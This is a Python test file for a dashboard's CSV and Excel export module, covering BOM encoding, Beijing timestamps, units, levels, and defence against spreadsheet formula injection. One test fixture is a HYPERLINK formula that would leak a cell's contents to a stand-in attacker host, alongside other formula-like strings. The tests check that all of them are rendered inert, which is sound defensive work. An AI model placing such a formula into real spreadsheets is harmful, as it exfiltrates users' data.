"""Exports: CSV that Excel opens in Chinese (UTF-8 with BOM), Excel with real date-times, values exact, units and
Beijing times in every file."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import numpy as np
import pytest
from openpyxl import load_workbook

from signs.catalogue import catalogue
from signs.citytime import CITY_TZ
from signs.drill import levels_of
from signs.export import (
    BOM,
    Moment,
    Table,
    beijing_text,
    comparison_table,
    csv_bytes,
    history_table,
    inert_text,
    list_table,
    xlsx_bytes,
)

TS = datetime(2025, 5, 24, 14, 30, 5, tzinfo=CITY_TZ).timestamp()
DTYPE = np.dtype([("ts", "<f8"), ("value", "<f8")])


def _read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM.encode("utf-8"))
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_a_bom_chinese_text_and_crlf_lines() -> None:
    table = Table("t", ["名称", "数值"], [["襄城区 实时人口", 48.3], ["含,逗号", None]])
    data = csv_bytes(table)
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert _read_csv(data) == [["名称", "数值"], ["襄城区 实时人口", "48.3"], ["含,逗号", ""]]


def test_csv_values_read_back_exactly_and_times_are_beijing() -> None:
    values = [0.1 + 0.2, 1e-7, 123456789.123456, -0.0]
    rows = _read_csv(csv_bytes(Table("t", ["t", "v"], [[Moment(TS), v] for v in values])))
    assert [float(r[1]) for r in rows[1:]] == values
    assert rows[1][0] == "2025-05-24 14:30:05"
    assert beijing_text(TS) == "2025-05-24 14:30:05"


def test_excel_has_the_data_with_real_times_and_an_about_sheet() -> None:
    table = Table(
        "标题",
        ["时间", "数值", "单位"],
        [[Moment(TS), 48.3, "万人"], [Moment(TS + 60), float("nan"), "万人"]],
        [("单位", "万人")],
    )
    book = load_workbook(io.BytesIO(xlsx_bytes(table, sheet="数据", about_sheet="说明")))
    data = book["数据"]
    rows = list(data.iter_rows(values_only=True))
    assert rows[0] == ("时间", "数值", "单位")
    assert rows[1] == (datetime(2025, 5, 24, 14, 30, 5), 48.3, "万人")
    assert rows[2][1] is None  # NaN is an empty cell, not an error
    assert data["A2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert list(book["说明"].iter_rows(values_only=True))[:2] == [("标题", None), ("单位", "万人")]


def test_history_export_has_every_reading_with_unit_and_level() -> None:
    sign = catalogue().signs["XY.P.M01.P01.dist:420602"]  # red at 70.1 万人
    points = np.array([(TS, 48.3), (TS + 300, 71.0)], dtype=DTYPE)
    table = history_table(
        [(sign, points)],
        [levels_of(sign, points["ts"], points["value"])],
        "zh",
        TS - 60,
        TS + 600,
        TS + 600,
    )
    rows = _read_csv(csv_bytes(table))
    assert rows[0] == ["指标编号", "指标名称", "时间(北京时间)", "数值", "单位", "级别"]
    assert rows[1] == [sign.id, sign.name_zh, "2025-05-24 14:30:05", "48.3", "万人", "正常"]
    assert rows[2][3:] == ["71.0", "万人", "红"]
    notes = dict(table.notes)
    assert notes["单位"] == "万人" and notes["读数"] == "2" and "2025-05-24 14:29:05" in notes["时间范围"]


def test_history_export_in_english_names_the_compared_signs() -> None:
    cat = catalogue()
    a, b = cat.signs["XY.P.M01.P01"], cat.signs["XY.P.M01.P01.dist:420602"]
    empty = np.empty(0, dtype=DTYPE)
    one = np.array([(TS, 1.0)], dtype=DTYPE)
    table = history_table([(a, empty), (b, one)], [np.empty(0, np.int8), np.zeros(1, np.int8)], "en", TS, TS, TS)
    assert table.columns[2] == "Time (Beijing)"
    assert table.rows == [[b.id, b.name_en, Moment(TS), 1.0, "10k people", "normal"]]
    notes = dict(table.notes)
    assert b.id in notes["+"]
    assert (notes["Unit"], notes["Definition"], notes["Owner"]) == ("10k people", a.definition_en, a.owner_en)


def test_comparison_and_list_exports_carry_units_levels_and_times() -> None:
    rows = [
        {
            "id": "XY.P.M01.P01",
            "name": "实时人口",
            "unit": "万人",
            "level": 2,
            "value": 1.5,
            "city": 3.0,
            "rank_text": "2/9",
            "d_420602": 1.5,
        }
    ]
    table = comparison_table("襄城区", rows, [("420602", "襄城")], "zh", TS)
    assert table.columns == ["指标编号", "指标名称", "单位", "级别", "襄城区", "全市", "本区排名(1=最严重)", "襄城"]
    assert table.rows == [["XY.P.M01.P01", "实时人口", "万人", "黄", 1.5, 3.0, "2/9", 1.5]]
    listed = list_table(
        "气象",
        [
            {
                "id": "x",
                "name": "n",
                "module": "m",
                "district": "全市",
                "value": None,
                "unit": "℃",
                "level": None,
                "ts": None,
                "stale": True,
            }
        ],
        "en",
        TS,
    )
    assert listed.rows == [["x", "n", "m", "全市", None, "℃", "", None, True]]
    assert _read_csv(csv_bytes(listed))[1] == ["x", "n", "m", "全市", "", "℃", "", "", "1"]


# Formula injection (OWASP): what a spreadsheet would run must arrive as text ------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_like_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert inert_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "crew sent", "襄城区", "1+1", " =1", "a=b", "'=quoted", "XY.P.M01.P01", "1e-7"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert inert_text(text) == text


def _hostile_table() -> Table:
    return Table(
        HYPERLINK,
        ["=col", "数值"],
        [[text, -3.5] for text in FORMULAS] + [["-7", -7], ["bell\x07 and nul\x00", float("-inf")]],
        [("@note", "+value")],
    )


def test_csv_cells_are_inert_and_negative_numbers_stay_numbers() -> None:
    rows = _read_csv(csv_bytes(_hostile_table()))
    assert rows[0] == ["'=col", "数值"]
    assert [row[0] for row in rows[1 : len(FORMULAS) + 1]] == ["'" + text for text in FORMULAS]
    assert {row[1] for row in rows[1 : len(FORMULAS) + 1]} == {"-3.5"}
    assert rows[-2] == ["'-7", "-7"]  # the text "-7" is text; the number -7 a number


def test_excel_cells_are_text_never_formulas_and_negative_numbers_stay_numbers() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(_hostile_table())))
    data = book["Data"]
    cells = [row for row in data.iter_rows()]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    assert (cells[0][0].value, cells[0][0].data_type) == ("'=col", "s")
    for row, text in zip(cells[1:], FORMULAS, strict=False):
        # XML reads a carriage return back as a line feed.
        assert (row[0].value, row[0].data_type) == ("'" + text.replace("\r", "\n"), "s")
        assert (row[1].value, row[1].data_type) == (-3.5, "n")
    assert (cells[-2][0].value, cells[-2][1].value, cells[-2][1].data_type) == ("'-7", -7, "n")
    # Control characters an .xlsx cannot hold are dropped rather than failing the export; -inf is an empty cell.
    assert (cells[-1][0].value, cells[-1][1].value) == ("bell and nul", None)
    about = list(book["About"].iter_rows(values_only=True))
    assert about == [("'" + HYPERLINK, None), ("'@note", "'+value")]
